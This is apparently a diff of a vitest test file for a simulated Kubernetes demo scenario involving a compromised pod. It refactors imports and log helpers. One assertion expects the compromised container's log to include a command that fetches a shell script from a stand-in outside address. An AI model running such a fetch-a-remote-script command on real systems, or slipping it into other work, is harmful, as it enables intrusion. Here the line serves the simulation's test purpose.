@@ -1,9 +1,9 @@
 import { afterEach, describe, expect, it } from "vitest";
-import { buildWorld } from "../start";
+import { buildWorld } from "./populate";
 import type { World } from "../world";
 import type { SimCluster } from "../kube/cluster";
 import { findCompromisedPod } from "./demo";
-import { getContainerLog, getContainerLogText } from "./logs";
+import { getContainerLog } from "./logs";
 import { controllerOf, isPodReady } from "../kube/controllers/labels";
 
 let worlds: World[] = [];
@@ -96,7 +96,8 @@ describe("demo scenario", () => {
     expect(lines.some((l) => l.line.includes("curl -s http://203.0.113.45/x.sh"))).toBe(true);
     for (const l of lines) expect(l.time).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z$/);
     expect(Date.parse(lines[lines.length - 1].time)).toBeLessThan(w.clock.now());
-    expect(getContainerLogText(cluster, "shop", victim.metadata.name, "checkout")[0]).toMatch(/^\S+Z \{"level":"info","msg":"starting"/);
+    const [first] = getContainerLog(cluster, "shop", victim.metadata.name, "checkout");
+    expect(`${first.time} ${first.line}`).toMatch(/^\S+Z \{"level":"info","msg":"starting"/);
     const age = w.clock.now() - Date.parse(victim.metadata.creationTimestamp!);
     expect(age).toBeGreaterThan(3 * 86_400_000);
   });
